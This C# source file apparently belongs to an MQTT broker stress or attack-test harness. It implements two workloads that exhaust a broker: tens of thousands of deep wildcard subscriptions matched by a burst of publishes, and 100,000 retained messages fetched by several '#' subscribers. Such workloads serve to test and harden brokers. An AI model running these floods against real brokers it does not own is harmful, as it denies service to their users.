// SPDX-License-Identifier: MIT

using System.Net.Sockets;

namespace RawMqtt.Attacks;

/// <summary>W2 and W6: searches of large trees.</summary>
internal static class Searches
{
    private const int Depth = 15;

    /// <summary>80 clients with 32 768 filters of {a,+}, and reads of 1000 messages to topics that thousands of them match.</summary>
    public static void Filters(Target target)
    {
        int each = ((1 << Depth) / 80) + 1;
        for (int client = 0; client < 80; client++)
        {
            Socket socket = target.Connect($"filters{client}");
            foreach (int[] part in Enumerable.Range(client * each, Math.Min(each, (1 << Depth) - (client * each))).Chunk(50))
            {
                socket.Send(Wire.Subscribe(part.Select(FilterOf), 0));
                Wire.ReadPacket(socket);
            }

            byte[] discarded = new byte[1 << 16];
            target.Start(() => socket.Receive(discarded));
        }

        Socket publisher = target.Connect("filters-publisher");
        string topic = string.Concat(Enumerable.Repeat("a/", Depth - 1));
        int number = 0;
        target.Start(() => publisher.Send([.. Enumerable.Range(0, 1000).SelectMany(_ => Wire.Publish($"{topic}{number++ % 100_000:d5}", "", 0, 0, false))]));
    }

    /// <summary>100 000 retained messages, and 8 clients that subscribe to all and go.</summary>
    public static void Retained(Target target)
    {
        Fill(target, 100_000);
        for (int i = 0; i < 8; i++)
        {
            int client = i;
            target.Start(() =>
            {
                using Socket socket = Wire.Dial(target.TcpPort);
                socket.Send([.. Wire.Connect($"retained{client}"), .. Wire.Subscribe("#", 0)]);
                Wire.ReadPacket(socket);
                Wire.ReadPacket(socket);
            });
        }
    }

    public static void Fill(Target target, int count)
    {
        Socket filler = target.Connect("filler");
        byte[] discarded = new byte[1 << 16];
        target.Start(() => filler.Receive(discarded));
        foreach (int[] part in Enumerable.Range(0, count).Chunk(500))
        {
            filler.Send([.. part.SelectMany(i => Wire.Publish($"kept/{i % 1000}/{i}", "value", 1, (ushort)(i % 1000 + 1), true))]);
        }
    }

    private static string FilterOf(int number) => string.Join('/', Enumerable.Range(0, Depth).Select(level => (number >> level & 1) == 0 ? "a" : "+"));
}
